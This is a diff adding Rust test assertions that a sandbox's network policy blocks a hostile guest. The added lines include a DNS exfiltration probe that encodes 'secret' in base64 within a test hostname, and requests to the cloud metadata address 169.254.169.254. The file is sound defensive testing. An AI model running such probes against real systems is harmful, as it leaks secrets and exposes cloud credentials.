@@ -107,6 +107,23 @@ fn the_network_policy_holds_against_a_hostile_guest() {
     );
     assert_eq!(w.fetch("narrow", &format!("http://{A_TEST}/")), None);
     assert_eq!(w.fetch("narrow", "http://10.0.2.2:18777/"), None);
+    // Under a CIDR-only list no name is resolved: a query's name would leave through the
+    // host's resolver (DNS exfiltration).
+    let (code, out) = w.sh("narrow", "getent hosts c2VjcmV0.c.test");
+    assert_ne!(code, 0, "resolved under a CIDR-only list: {out}");
+    w.assert_refused("narrow", "c2VjcmV0.c.test");
+
+    // --- --allow-cidr 0.0.0.0/0 (E2B's allowOut for "everything"): still never the metadata
+    // service, and no private range without --allow-private ---
+    common::ok(w.cmd().args(["network", "set", "narrow", "--allow-cidr", "0.0.0.0/0"]));
+    assert_eq!(w.fetch("narrow", "http://169.254.169.254/"), None, "the metadata service through 0.0.0.0/0");
+    w.assert_refused("narrow", "169.254.169.254:80");
+    assert_eq!(
+        w.fetch("narrow", &format!("http://{C_TEST}/")).as_deref(),
+        Some(format!("inet-c host={C_TEST}\n")).as_deref()
+    );
+    common::ok(w.cmd().args(["network", "set", "narrow", "--allow-cidr", "0.0.0.0/0", "--allow-private"]));
+    assert_eq!(w.fetch("narrow", "http://169.254.169.254/"), None, "link-local stays refused");
 
     // --- --allow-host-port 18777: exactly that port of the host ---
     common::ok(w.cmd().args(["network", "set", "narrow", "--allow-host-port", "18777"]));
